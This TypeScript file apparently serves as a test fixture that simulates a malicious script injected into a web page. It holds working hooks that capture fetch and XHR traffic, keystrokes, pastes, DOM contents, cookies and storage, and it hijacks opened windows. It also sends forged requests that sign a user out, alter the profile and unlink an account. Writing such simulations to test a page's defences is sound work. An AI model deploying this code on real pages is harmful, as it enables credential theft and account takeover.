/** Something a hostile script got hold of, and how. */
export interface Loot {
  /** `calls`: what it saw by taking the place of the page's own fetch or XMLHttpRequest. */
  readonly by:
    'calls' | 'messages' | 'keys' | 'page' | 'storage' | 'address' | 'windows' | 'frames' | 'hosted pages' | 'tried';
  readonly text: string;
}

/** What the test gives the page to hand its loot over, and the page gives the test to begin what needs somebody signed in. */
export interface HostileGlobals {
  keepLoot(loot: Loot): void;
  /** Tries to read the service's own pages, and to send their forms, in the person's name. */
  robHostedPages(where: { pages: string; accountId: string }): Promise<void>;
}

/**
 * Runs in a page before all its other scripts, as one does that came with an advertisement or out of a hacked plugin: everything a page's
 * script can do to hear what is typed, said, stored and sent is done here. It must not use anything outside itself.
 */
export function hostileScript(): void {
  const { keepLoot } = globalThis as unknown as HostileGlobals;
  const seen = new Set<string>();
  const take = (by: Loot['by'], what: unknown): void => {
    let text: string;
    try {
      text = typeof what === 'string' ? what : JSON.stringify(what);
    } catch {
      text = String(what);
    }
    if (!text || seen.has(by + text)) return;
    seen.add(by + text);
    keepLoot({ by, text });
  };
  const attempt = (by: Loot['by'], what: () => unknown): void => {
    try {
      take(by, what());
    } catch {
      take('tried', by);
    }
  };

  // What the page sends and gets.
  const ownFetch = globalThis.fetch;
  globalThis.fetch = async (input, init) => {
    const request = new Request(input, init);
    const body = await request.clone().text();
    take('calls', [request.method, request.url, [...request.headers], body]);
    const response = await ownFetch(request);
    void response
      .clone()
      .text()
      .then((text) => take('calls', [response.url, [...response.headers], text]))
      .catch(() => undefined);
    return response;
  };
  const { send } = XMLHttpRequest.prototype;
  XMLHttpRequest.prototype.send = function (body) {
    take('calls', String(body));
    this.addEventListener('load', () => take('calls', this.responseText));
    send.call(this, body);
  };

  // What windows tell each other.
  const { addEventListener } = EventTarget.prototype;
  EventTarget.prototype.addEventListener = function (
    this: EventTarget,
    type: string,
    listener: EventListenerOrEventListenerObject | null,
    options?: AddEventListenerOptions | boolean,
  ) {
    if (type === 'message') {
      addEventListener.call(this, type, (event) => take('messages', (event as MessageEvent).data));
    }
    addEventListener.call(this, type, listener, options);
  };
  addEventListener.call(window, 'message', (event) => take('messages', (event as MessageEvent).data));

  // What is typed and pasted.
  for (const type of ['keydown', 'keypress', 'keyup', 'beforeinput', 'input', 'change', 'paste', 'submit']) {
    addEventListener.call(
      window,
      type,
      (event) => {
        const target = event.composedPath()[0] as HTMLInputElement;
        take('keys', [type, (event as KeyboardEvent).key, (event as InputEvent).data, target.value]);
      },
      true,
    );
  }

  // What the page shows, its widgets' closed insides too.
  const look = (node: Node): void => {
    if (node instanceof Element) {
      for (const { name, value } of node.attributes) take('page', `${name}=${value}`);
      if ('value' in node) take('page', String(node.value));
    }
    take('page', node.nodeValue ?? '');
    for (const child of node.childNodes) look(child);
  };
  const watch = (root: Node): void => {
    new MutationObserver((records) => {
      for (const { target, addedNodes } of records) [target, ...addedNodes].forEach(look);
    }).observe(root, { subtree: true, childList: true, attributes: true, characterData: true });
  };
  watch(document);
  const { attachShadow } = Element.prototype;
  Element.prototype.attachShadow = function (init) {
    const root = attachShadow.call(this, init);
    watch(root);
    return root;
  };

  // What is stored, and where the page is.
  for (const store of [Storage.prototype, IDBObjectStore.prototype] as Record<string, unknown>[]) {
    for (const name of ['setItem', 'put', 'add']) {
      const own = store[name];
      if (typeof own !== 'function') continue;
      store[name] = function (...args: unknown[]) {
        take('storage', args);
        return (own as (...args: unknown[]) => unknown).apply(this, args);
      };
    }
  }
  for (const name of ['pushState', 'replaceState'] as const) {
    const own = history[name].bind(history);
    history[name] = (...args) => {
      take('address', [location.href, args]);
      own(...args);
    };
  }

  // Windows that the page opens: it holds on to each, also to those that a link would have opened out of its reach.
  const windows: Window[] = [];
  const open = window.open.bind(window);
  window.open = (...args) => {
    take('windows', args);
    const opened = open(...args);
    if (opened) {
      windows.push(opened);
      attempt('windows', () => {
        opened.addEventListener('keydown', (event) => take('windows', event.key), true);
        opened.addEventListener('pagehide', () => take('windows', opened.document.documentElement.outerHTML), true);
        return 'an empty window';
      });
    }
    return opened;
  };
  addEventListener.call(
    window,
    'click',
    (event) => {
      const link = event.composedPath().find((each) => each instanceof HTMLAnchorElement);
      if (!link) return;
      event.preventDefault();
      window.open(link.href, '_blank');
    },
    true,
  );
  setInterval(() => {
    for (const opened of windows) {
      attempt('windows', () => opened.location.href);
      attempt('windows', () => opened.document.documentElement.outerHTML);
      attempt('windows', () => opened.name);
      attempt('windows', () => ({ ...opened.sessionStorage, ...opened.localStorage }));
      attempt('windows', () => opened.opener !== window && 'not ours');
      for (let index = 0; index < opened.length; index++) {
        attempt('frames', () => opened[index]?.document.documentElement.outerHTML);
      }
    }
    attempt('storage', () => [document.cookie, { ...localStorage }, { ...sessionStorage }]);
    attempt('address', () => [location.href, document.referrer, history.state as unknown]);
    attempt('address', () => performance.getEntries().map(({ name }) => name));
  }, 25);

  const robHostedPages: HostileGlobals['robHostedPages'] = async ({ pages, accountId }) => {
    for (const page of ['profile', 'accounts', 'devices', 'link', 'sign-in']) {
      for (const credentials of ['include', 'omit'] as const) {
        await ownFetch(pages + page, { credentials })
          .then(async (response) => take('hosted pages', await response.text()))
          .catch(() => take('tried', `read ${page}`));
      }
    }
    const wishes: [string, Record<string, string>][] = [
      ['sign-out', {}],
      ['profile', { name: 'Зловмисник', kind: 'household', language: 'en' }],
      ['devices', { end: 'others' }],
      ['accounts', { do: 'unlink', account: accountId }],
    ];
    for (const [page, fields] of wishes) {
      await ownFetch(pages + page, {
        method: 'POST',
        mode: 'no-cors',
        credentials: 'include',
        body: new URLSearchParams(fields),
      }).catch(() => undefined);
      take('tried', `send ${page}`);
    }
    const frame = document.createElement('iframe');
    frame.src = `${pages}profile`;
    const loaded = new Promise((resolve) => addEventListener.call(frame, 'load', resolve));
    document.body.append(frame);
    await loaded;
    attempt('frames', () => frame.contentDocument?.documentElement.outerHTML ?? '');
    // eslint-disable-next-line @typescript-eslint/no-explicit-any -- a hostile script knows no types
    attempt('frames', () => (frame.contentWindow as any).document.body.innerText as string);
    frame.remove();
  };
  Object.assign(globalThis, { robHostedPages });
}
